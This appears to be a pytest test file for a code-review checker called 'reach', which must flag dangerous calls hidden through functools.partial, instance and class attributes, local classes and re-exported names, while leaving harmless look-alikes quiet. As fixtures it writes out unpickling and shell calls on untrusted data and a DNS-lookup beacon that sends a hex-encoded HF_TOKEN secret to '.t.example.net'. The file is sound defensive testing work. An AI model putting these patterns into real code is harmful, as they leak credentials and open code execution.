"""Five more ways to hide a sink from ``reach`` (issue #16; docs/checks/reach.md).

1. ``functools.partial(pickle.loads)`` / ``partial(os.system)`` (or
   ``partialmethod``) bound to a module-level name, a class attribute or a
   local, or used where it is written, then called: the partial is read as
   the function it makes, calling what it wraps with the arguments it binds.
2. ``self.loader = pickle.loads`` (or a partial, a helper, ``setattr(self,
   "loader", ...)``) in one method, ``self.loader(blob)`` in another: the
   attribute is the class's (``class_attrs``), as one bound in the class body.
3. ``cls.decode = pickle.loads`` in a classmethod (or ``Codec.decode = ...``
   after the class), ``cls.decode(...)`` / ``Codec.decode(...)``.
4. Classes defined inside functions, their methods reaching a sink.
5. A re-exported DNS lookup (``from socket import gethostbyname as lookup``)
   called with a name the caller builds: the lookup was known only by the
   names ``gethostbyname``, ``resolve``, ... as written at the call.
6. One name bound to two sinks (a torch.load without ``weights_only``, a
   WARNING when no torch requirement is found, and ``pickle.loads``): the
   worse decides the finding, so the change blocks.

Each must block with ``reach-dangerous-call`` at the added call, on a real
repo whose base holds the helper and whose change adds only the call. The
look-alikes (the same shapes around ``json.loads``, a fixed command, a
``partial(subprocess.run, check=True)``) stay quiet.
"""

from __future__ import annotations

import pytest

from .conftest import Repo
from .test_reach import _check, _repo, _rules

PKG = {"utils/__init__.py": ""}
HELPER = "import pickle\n\n\ndef load_blob(b):\n    return pickle.loads(b)\n"


def _main(imports: str, body: str) -> str:
    """A train.py whose ``main(data)`` runs ``body`` (one or more lines)."""
    lines = "".join(f"    {x}\n" for x in body.splitlines())
    return f"{imports}\n\n\ndef main(data):\n{lines}"


def _io(text: str) -> dict[str, str]:
    return {**PKG, "utils/io.py": text}


STORE_INIT = (
    "import pickle\n\n\nclass Store:\n    def __init__(self):\n"
    "        self.loader = {}\n\n    def restore(self, blob):\n"
    "        return self.loader(blob)\n"
)
FROM_STORE = "from utils.io import Store"
CODEC = (
    "import pickle\n\n\nclass Codec:\n    @classmethod\n    def configure(cls):\n"
    "        cls.decode = {}\n\n    @classmethod\n    def restore(cls, blob):\n"
    "        return cls.decode(blob)\n"
)
FROM_CODEC = "from utils.io import Codec"
# Nine harmless functions an attribute is bound to before the sink (no cap on
# the bindings recorded may leave the last one out).
HARMLESS_NINE = (
    "json.loads",
    "json.load",
    "json.dumps",
    "os.path.basename",
    "os.path.dirname",
    "os.path.join",
    "shlex.split",
    "shlex.quote",
    "shlex.join",
)

# name: (base files, new train.py, line(s) of the call, message part of the last)
ATTACKS: dict[str, tuple[dict[str, str], str, int | tuple[int, ...], str]] = {
    # 1. functools.partial
    "load = functools.partial(pickle.loads), another file": (
        _io("import functools\nimport pickle\n\nload = functools.partial(pickle.loads)\n"),
        _main("from utils.io import load", "return load(data)"),
        5,
        "train.py:5 calls utils.io.load -> pickle.loads (utils/io.py:4)",
    ),
    "run = partial(os.system), from functools import partial": (
        _io("import os\nfrom functools import partial\n\nrun = partial(os.system)\n"),
        _main("from utils.io import run", "run(data)"),
        5,
        "utils.io.run -> os.system (utils/io.py:4)",
    ),
    "sh = partial(subprocess.run, shell=True)": (
        _io(
            "import subprocess\nfrom functools import partial as p\n\n"
            "sh = p(subprocess.run, shell=True)\n"
        ),
        _main("from utils import io", "io.sh(data)"),
        5,
        "utils.io.sh -> subprocess.run (utils/io.py:4)",
    ),
    "a partial of a partial": (
        _io(
            "import functools\nimport pickle\n\n"
            "load = functools.partial(functools.partial(pickle.loads))\n"
        ),
        _main("from utils.io import load", "return load(data)"),
        5,
        "utils.io.load -> pickle.loads (utils/io.py:4)",
    ),
    "partial(helper, weights_only=False) of a True-default helper": (
        {
            **_io(
                "import torch\n\n\ndef restore(p, weights_only=True):\n"
                "    return torch.load(p, weights_only=weights_only)\n"
            ),
            "requirements.txt": "torch>=2.6\n",
        },
        _main(
            "import functools\nfrom utils.io import restore",
            "fn = functools.partial(restore, weights_only=False)\nreturn fn(data)",
        ),
        (6, 7),  # the partial passes False, and fn(data) calls it
        "train.main.fn -> utils.io.restore -> torch.load (utils/io.py:5)",
    ),
    "weights_only=False passed to a partial of a True-default helper": (
        {
            **_io(
                "import torch\n\n\ndef restore(p, weights_only=True):\n"
                "    return torch.load(p, weights_only=weights_only)\n"
            ),
            "utils/ckpt.py": "import functools\n\nfrom utils.io import restore\n\n"
            "load = functools.partial(restore, map_location='cpu')\n",
            "requirements.txt": "torch>=2.6\n",
        },
        # the partial forwards what its caller passes, as **kwargs does: it
        # counts as passing weights_only something else (fail closed)
        _main("from utils.ckpt import load", "return load(data, weights_only=False)"),
        5,
        "utils.ckpt.load -> utils.io.restore -> torch.load (utils/io.py:5)",
    ),
    "a partial of a repository helper": (
        {
            **_io(HELPER),
            "utils/ckpt.py": "import functools\n\nfrom utils.io import load_blob\n\n"
            "restore = functools.partial(load_blob)\n",
        },
        _main("from utils.ckpt import restore", "return restore(data)"),
        5,
        "utils.ckpt.restore -> utils.io.load_blob -> pickle.loads (utils/io.py:5)",
    ),
    "partial(torch.load, weights_only=False)": (
        _io(
            "import functools\n\nimport torch\n\n"
            "restore = functools.partial(torch.load, weights_only=False)\n"
        ),
        _main("from utils.io import restore", "return restore(data)"),
        5,
        "utils.io.restore -> torch.load (utils/io.py:5)",
    ),
    "a class attribute bound to a partial": (
        _io(
            "import functools\nimport pickle\n\n\nclass IO:\n"
            "    load = functools.partial(pickle.loads)\n"
        ),
        _main("from utils.io import IO", "return IO.load(data)"),
        5,
        "utils.io.IO.load -> pickle.loads (utils/io.py:6)",
    ),
    "an instance's class attribute, a staticmethod of a partial": (
        _io(
            "import functools\nimport pickle\n\n\nclass IO:\n"
            "    load = staticmethod(functools.partial(pickle.loads))\n"
        ),
        _main("from utils.io import IO", "return IO().load(data)"),
        5,
        "utils.io.IO.load -> pickle.loads (utils/io.py:6)",
    ),
    "partialmethod in a class body": (
        _io(
            "import functools\nimport os\n\n\nclass Job:\n"
            "    run = functools.partialmethod(os.system)\n"
        ),
        _main("from utils.io import Job", "Job().run()"),
        5,
        "utils.io.Job.run -> os.system (utils/io.py:6)",
    ),
    "a local bound to a partial of a helper, in the change": (
        _io(HELPER),
        _main(
            "import functools\nfrom utils.io import load_blob",
            "fn = functools.partial(load_blob)\nreturn fn(data)",
        ),
        (6, 7),  # the partial calls the helper (as a lambda would), and fn(data)
        "train.main.fn -> utils.io.load_blob -> pickle.loads (utils/io.py:5)",
    ),
    "a partial called where it is written": (
        _io(HELPER),
        _main(
            "import functools\nfrom utils.io import load_blob",
            "return functools.partial(load_blob)(data)",
        ),
        6,
        "utils.io.load_blob -> pickle.loads (utils/io.py:5)",
    ),
    "a partial in a helper's body, called there": (
        {
            **_io(HELPER),
            "utils/ckpt.py": "import functools\n\nfrom utils.io import load_blob\n\n\n"
            "def restore(b):\n    fn = functools.partial(load_blob, b)\n    return fn()\n",
        },
        _main("from utils.ckpt import restore", "return restore(data)"),
        5,
        "utils.ckpt.restore -> utils.ckpt.restore.fn -> utils.io.load_blob -> pickle.loads",
    ),
    "load: Loader = pickle.loads (an annotated module-level alias)": (
        _io("import pickle\nfrom typing import Any\n\nload: Any = pickle.loads\n"),
        _main("from utils.io import load", "return load(data)"),
        5,
        "utils.io.load -> pickle.loads (utils/io.py:4)",
    ),
    "an annotated module-level partial": (
        _io(
            "import functools\nimport pickle\nfrom typing import Any\n\n"
            "load: Any = functools.partial(pickle.loads)\n"
        ),
        _main("from utils.io import load", "return load(data)"),
        5,
        "utils.io.load -> pickle.loads (utils/io.py:5)",
    ),
    "an annotated class attribute": (
        _io("import pickle\nfrom typing import Any\n\n\nclass IO:\n    load: Any = pickle.loads\n"),
        _main("from utils.io import IO", "return IO.load(data)"),
        5,
        "utils.io.IO.load -> pickle.loads (utils/io.py:6)",
    ),
    "load, dump = pickle.loads, pickle.dumps (unpacked)": (
        _io("import pickle\n\nload, dump = pickle.loads, pickle.dumps\n"),
        _main("from utils.io import load", "return load(data)"),
        5,
        "utils.io.load -> pickle.loads (utils/io.py:3)",
    ),
    "an unpacked class attribute": (
        _io(
            "import json\nimport pickle\n\n\nclass IO:\n"
            "    parse, load = json.loads, pickle.loads\n"
        ),
        _main("from utils.io import IO", "return IO.load(data)"),
        5,
        "utils.io.IO.load -> pickle.loads (utils/io.py:6)",
    ),
    "a local unpacked from a tuple of helpers": (
        _io(HELPER),
        _main(
            "import json\nfrom utils import io",
            "parse, fn = json.loads, io.load_blob\nreturn fn(data)",
        ),
        7,
        "utils.io.load_blob -> pickle.loads (utils/io.py:5)",
    ),
    # 2. self.<attr> bound in a method
    "self.loader = pickle.loads in __init__": (
        _io(STORE_INIT.format("pickle.loads")),
        _main(FROM_STORE, "return Store().restore(data)"),
        5,
        "utils.io.Store.restore -> utils.io.Store.loader -> pickle.loads",
    ),
    "self.loader = functools.partial(pickle.loads)": (
        _io("import functools\n" + STORE_INIT.format("functools.partial(pickle.loads)")),
        _main(FROM_STORE, "return Store().restore(data)"),
        5,
        "utils.io.Store.restore -> utils.io.Store.loader -> pickle.loads (utils/io.py:7)",
    ),
    "self.loader = a repository helper": (
        {
            **_io(
                STORE_INIT.format("load_blob").replace(
                    "import pickle", "from utils.h import load_blob"
                )
            ),
            "utils/h.py": HELPER,
        },
        _main(FROM_STORE, "return Store().restore(data)"),
        5,
        "utils.io.Store.restore -> utils.h.load_blob -> pickle.loads (utils/h.py:5)",
    ),
    "self.loader: object = pickle.loads (annotated)": (
        _io(STORE_INIT.format("pickle.loads").replace("self.loader =", "self.loader: object =")),
        _main(FROM_STORE, "return Store().restore(data)"),
        5,
        "utils.io.Store.loader -> pickle.loads",
    ),
    "setattr(self, 'loader', pickle.loads)": (
        _io(
            STORE_INIT.format("pickle.loads").replace(
                "self.loader = pickle.loads", "setattr(self, 'loader', pickle.loads)"
            )
        ),
        _main(FROM_STORE, "return Store().restore(data)"),
        5,
        "utils.io.Store.loader -> pickle.loads",
    ),
    "self.parse, self.loader = json.loads, pickle.loads": (
        _io(
            STORE_INIT.format("pickle.loads").replace(
                "self.loader = pickle.loads", "self.parse, self.loader = len, pickle.loads"
            )
        ),
        _main(FROM_STORE, "return Store().restore(data)"),
        5,
        "utils.io.Store.loader -> pickle.loads",
    ),
    "self.loader called on an instance from outside": (
        _io(STORE_INIT.format("pickle.loads")),
        _main(FROM_STORE, "s = Store()\nreturn s.loader(data)"),
        6,
        "utils.io.Store.loader -> pickle.loads",
    ),
    "self.loader bound in a setup method": (
        _io(STORE_INIT.format("{}").replace("__init__", "setup").format("pickle.loads")),
        _main(FROM_STORE, "return Store().restore(data)"),
        5,
        "utils.io.Store.restore -> utils.io.Store.loader -> pickle.loads",
    ),
    "self.loader bound to nine harmless functions, then pickle.loads": (
        _io(
            "import json\nimport os.path\nimport pickle\nimport shlex\n\n\nclass Store:\n"
            + "".join(
                f"    def use{i}(self):\n        self.loader = {f}\n\n"
                for i, f in enumerate(HARMLESS_NINE)
            )
            + "    def fast(self):\n        self.loader = pickle.loads\n\n"
            "    def restore(self, blob):\n        return self.loader(blob)\n"
        ),
        _main(FROM_STORE, "return Store().restore(data)"),
        5,
        "utils.io.Store.restore -> utils.io.Store.loader -> pickle.loads",
    ),
    "a subclass calls self.loader its base binds": (
        {
            **_io(STORE_INIT.format("pickle.loads")),
            "utils/fast.py": "from utils.io import Store\n\n\nclass Fast(Store):\n"
            "    def get(self, b):\n        return self.loader(b)\n",
        },
        _main("from utils.fast import Fast", "return Fast().get(data)"),
        5,
        "utils.fast.Fast.get -> utils.io.Store.loader -> pickle.loads",
    ),
    # 3. classmethods
    "cls.decode = pickle.loads in a classmethod": (
        _io(CODEC.format("pickle.loads")),
        _main(FROM_CODEC, "return Codec.restore(data)"),
        5,
        "utils.io.Codec.restore -> utils.io.Codec.decode -> pickle.loads",
    ),
    "Codec.decode(...) called from outside": (
        _io(CODEC.format("pickle.loads")),
        _main(FROM_CODEC, "return Codec.decode(data)"),
        5,
        "utils.io.Codec.decode -> pickle.loads",
    ),
    "Codec.decode = pickle.loads after the class": (
        _io("import pickle\n\n\nclass Codec:\n    pass\n\n\nCodec.decode = pickle.loads\n"),
        _main(FROM_CODEC, "return Codec.decode(data)"),
        5,
        "utils.io.Codec.decode -> pickle.loads (utils/io.py:8)",
    ),
    # 4. classes defined inside functions
    "a method of a local class": (
        {
            **_io(
                "import pickle\n\n\ndef restore(b):\n    class Local:\n"
                "        def load(self, x):\n            return pickle.loads(x)\n\n"
                "    return Local().load(b)\n"
            )
        },
        _main("from utils.io import restore", "return restore(data)"),
        5,
        "utils.io.restore -> utils.io.restore.Local.load -> pickle.loads (utils/io.py:7)",
    ),
    "a local class bound to an instance, self.method": (
        {
            **_io(
                "import pickle\n\n\ndef restore(b):\n    class Local:\n"
                "        def load(self, x):\n            return self._raw(x)\n\n"
                "        def _raw(self, x):\n            return pickle.loads(x)\n\n"
                "    obj = Local()\n    return obj.load(b)\n"
            )
        },
        _main("from utils.io import restore", "return restore(data)"),
        5,
        "utils.io.restore -> utils.io.restore.Local.load -> utils.io.restore.Local._raw",
    ),
    "a local unpickler class": (
        {
            **_io(
                "import io\nimport pickle\n\n\ndef restore(b):\n"
                "    class Loose(pickle.Unpickler):\n        pass\n\n"
                "    return Loose(io.BytesIO(b)).load()\n"
            )
        },
        _main("from utils.io import restore", "return restore(data)"),
        5,
        "utils.io.restore -> utils.io.restore.Loose -> pickle.Unpickler",
    ),
    "a local class's self attribute": (
        {
            **_io(
                "import pickle\n\n\ndef restore(b):\n    class Local:\n"
                "        def __init__(self):\n            self.f = pickle.loads\n\n"
                "        def load(self, x):\n            return self.f(x)\n\n"
                "    return Local().load(b)\n"
            )
        },
        _main("from utils.io import restore", "return restore(data)"),
        5,
        "utils.io.restore.Local.f -> pickle.loads",
    ),
    "a local class's class attribute": (
        _io(
            "import pickle\n\n\ndef restore(b):\n    class Local:\n"
            "        load = pickle.loads\n\n    return Local.load(b)\n"
        ),
        _main("from utils.io import restore", "return restore(data)"),
        5,
        "utils.io.restore -> utils.io.restore.Local.load -> pickle.loads (utils/io.py:8)",
    ),
    "a local class in a method, its base's method": (
        _io(
            "import pickle\n\n\nclass Base:\n    def load(self, x):\n"
            "        return pickle.loads(x)\n\n\nclass Store:\n    def restore(self, b):\n"
            "        class Local(Base):\n            def get(self, x):\n"
            "                return self.load(x)\n\n        return Local().get(b)\n"
        ),
        _main("from utils.io import Store", "return Store().restore(data)"),
        5,
        "utils.io.Store.restore -> utils.io.Store.restore.Local.get -> utils.io.Base.load",
    ),
    "Local.f = pickle.loads after a local class": (
        _io(
            "import pickle\n\n\ndef restore(b):\n    class Local:\n        pass\n\n"
            "    Local.f = pickle.loads\n    return Local.f(b)\n"
        ),
        _main("from utils.io import restore", "return restore(data)"),
        5,
        "utils.io.restore -> utils.io.restore.Local.f -> pickle.loads",
    ),
    # 5. a re-exported DNS lookup
    "lookup = re-exported gethostbyname, a caller-built name": (
        _io("from socket import gethostbyname as lookup\n"),
        _main("from utils.io import lookup", "return lookup(data.hex() + '.t.example.net')"),
        5,
        "utils.io.lookup -> socket.gethostbyname (utils/io.py:1)",
    ),
    "a helper calls the re-exported lookup with its parameter": (
        {
            **_io("from socket import gethostbyname as lookup\n"),
            "utils/beacon.py": "from utils.io import lookup\n\n\ndef beacon(label):\n"
            "    return lookup(label + '.t.example.net')\n",
        },
        _main("from utils.beacon import beacon", "return beacon(data.hex())"),
        5,
        "utils.beacon.beacon -> utils.io.lookup -> socket.gethostbyname",
    ),
    "partial(socket.gethostbyname)": (
        _io(
            "import socket\nfrom functools import partial\n\n"
            "lookup = partial(socket.gethostbyname)\n"
        ),
        _main("from utils.io import lookup", "return lookup(data.hex() + '.t.example.net')"),
        5,
        "utils.io.lookup -> socket.gethostbyname (utils/io.py:4)",
    ),
    # 6. the worse of two sinks decides
    "one re-exported name: torch.load (WARNING) or pickle.loads": (
        _io(
            "try:\n    from torch import load as restore\nexcept ImportError:\n"
            "    from pickle import loads as restore\n"
        ),
        _main("from utils.io import restore", "return restore(data)"),
        5,
        "utils.io.restore -> pickle.loads (utils/io.py:4)",
    ),
    "one re-exported name: os.system (a fixed command) or pickle.loads": (
        _io(
            "try:\n    from os import system as run\nexcept ImportError:\n"
            "    from pickle import loads as run\n"
        ),
        _main("from utils.io import run", "return run('nvidia-smi')"),
        5,
        "utils.io.run -> pickle.loads (utils/io.py:4)",
    ),
    "a helper reaching torch.load (WARNING) and, further on, pickle.loads": (
        _io(
            "import pickle\n\nimport torch\n\n\ndef _raw(b):\n    return pickle.loads(b)\n\n\n"
            "def restore(p):\n    if p.endswith('.pt'):\n        return torch.load(p)\n"
            "    return _raw(open(p, 'rb').read())\n"
        ),
        _main("from utils.io import restore", "return restore(data)"),
        5,
        "utils.io.restore -> utils.io._raw -> pickle.loads (utils/io.py:7): unpickling",
    ),
    "one class attribute: torch.load (WARNING) or pickle.loads": (
        _io(
            "import pickle\nimport sys\n\nimport torch\n\n\nclass IO:\n"
            "    if sys.platform:\n        load = torch.load\n    else:\n"
            "        load = pickle.loads\n"
        ),
        _main("from utils.io import IO", "return IO.load(data)"),
        5,
        "utils.io.IO.load -> pickle.loads (utils/io.py:11)",
    ),
}


@pytest.mark.parametrize("name", list(ATTACKS))
def test_a_hidden_sink_blocks_at_the_added_call(
    name: str, repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    base, train, line, part = ATTACKS[name]
    lines = line if isinstance(line, tuple) else (line,)
    _repo(repo, base)
    repo.write("train.py", train)
    repo.commit("feature", who="mallory")
    code, found, doc = _check(repo, capsys)
    assert doc["errors"] == []
    assert _rules(found) == [("reach-dangerous-call", "train.py", n) for n in lines], found
    assert part in found[-1]["message"], found
    assert all(f["severity"] == "ERROR" and f["approval_group"] == "security" for f in found)
    assert code == 1


# -- look-alikes: quiet ---------------------------------------------------------

LOOKALIKES: dict[str, tuple[dict[str, str], str]] = {
    "load = functools.partial(json.loads)": (
        _io("import functools\nimport json\n\nload = functools.partial(json.loads)\n"),
        _main("from utils.io import load", "return load(data)"),
    ),
    "a class attribute bound to partial(json.loads)": (
        _io(
            "import functools\nimport json\n\n\nclass IO:\n"
            "    load = functools.partial(json.loads)\n"
        ),
        _main("from utils.io import IO", "return IO.load(data) or IO().load(data)"),
    ),
    "a local partial of json.loads": (
        {},
        _main(
            "import functools\nimport json", "fn = functools.partial(json.loads)\nreturn fn(data)"
        ),
    ),
    "partial(subprocess.run, check=True) called with a list": (
        _io(
            "import subprocess\nfrom functools import partial\n\n"
            "run = partial(subprocess.run, check=True)\n"
        ),
        _main("from utils.io import run", "run(['nvidia-smi', data])"),
    ),
    "partial(os.system) of a fixed command": (
        _io(
            "import os\nfrom functools import partial\n\nprobe = partial(os.system, 'nvidia-smi')\n"
        ),
        _main("from utils.io import probe", "probe()"),
    ),
    "partial(torch.load, weights_only=True)": (
        _io(
            "import functools\n\nimport torch\n\n"
            "restore = functools.partial(torch.load, weights_only=True)\n"
        ),
        _main("from utils.io import restore", "return restore(data)"),
    ),
    "self.loader = json.loads": (
        _io(STORE_INIT.format("json.loads").replace("import pickle", "import json")),
        _main(FROM_STORE, "s = Store()\nreturn s.restore(data) or s.loader(data)"),
    ),
    "self.loader = a parameter (whatever the caller passes)": (
        _io(STORE_INIT.format("loader").replace("__init__(self)", "__init__(self, loader)")),
        _main("import json\n" + FROM_STORE, "return Store(json.loads).restore(data)"),
    ),
    "a cycle of attributes (self.a = self.b; self.b = self.a)": (
        _io(
            "class Store:\n    def __init__(self):\n        self.a = self.b\n"
            "        self.b = self.a\n        self.b = self.c\n        self.c = self.a\n\n"
            "    def restore(self, blob):\n        return self.a(blob)\n"
        ),
        _main(FROM_STORE, "return Store().restore(data) or Store().b(data)"),
    ),
    "cls.decode = json.loads": (
        _io(CODEC.format("json.loads").replace("import pickle", "import json")),
        _main(FROM_CODEC, "return Codec.restore(data) or Codec.decode(data)"),
    ),
    "a pickle attribute of another object (not the class)": (
        _io(
            "import pickle\n\n\nclass Store:\n    def __init__(self, other):\n"
            "        other.loader = pickle.loads\n\n    def restore(self, blob):\n"
            "        return self.loader(blob)\n"
        ),
        _main(FROM_STORE, "return Store(data).restore(data)"),
    ),
    "a local class that reads JSON": (
        _io(
            "import json\n\n\ndef restore(b):\n    class Local:\n"
            "        def load(self, x):\n            return json.loads(x)\n\n"
            "    return Local().load(b)\n"
        ),
        _main("from utils.io import restore", "return restore(data)"),
    ),
    "a re-exported lookup of a fixed name": (
        _io("from socket import gethostbyname as lookup\n"),
        _main("from utils.io import lookup", "return lookup('localhost')"),
    ),
}


@pytest.mark.parametrize("name", list(LOOKALIKES))
def test_a_harmless_look_alike_is_quiet(
    name: str, repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    base, train = LOOKALIKES[name]
    _repo(repo, base)
    repo.write("train.py", train)
    repo.commit("feature")
    _code, found, doc = _check(repo, capsys)
    assert (found, doc["errors"]) == ([], [])


def test_an_annotated_patch_through_a_re_export_is_reported(
    repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    """``functional.cross_entropy: Any = f`` patches as ``... = f`` does."""
    from .test_reach_returns import COMPAT

    _repo(repo, {"compat.py": COMPAT})
    repo.write(
        "train.py",
        "from compat import functional\n\n\ndef f(*a, **k):\n    return None\n\n\n"
        "functional.cross_entropy: object = f\n",
    )
    repo.commit("feature", who="mallory")
    code, found, doc = _check(repo, capsys)
    assert doc["errors"] == []
    assert _rules(found) == [("reach-framework-patch", "train.py", 8)], found
    assert "replaces torch.nn.functional.cross_entropy" in found[0]["message"]
    assert code == 1


def test_a_re_exported_lookup_of_a_name_built_from_the_environment(
    repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    _repo(repo, _io("from socket import gethostbyname as lookup\n"))
    repo.write(
        "train.py",
        "import os\n\nfrom utils.io import lookup\n\n\ndef beacon():\n"
        "    tok = os.environ['HF_TOKEN'].encode().hex()\n"
        "    return lookup(tok + '.t.example.net')\n",
    )
    repo.commit("feature", who="mallory")
    _code, found, _doc = _check(repo, capsys)
    assert _rules(found) == [("reach-dangerous-call", "train.py", 8)], found
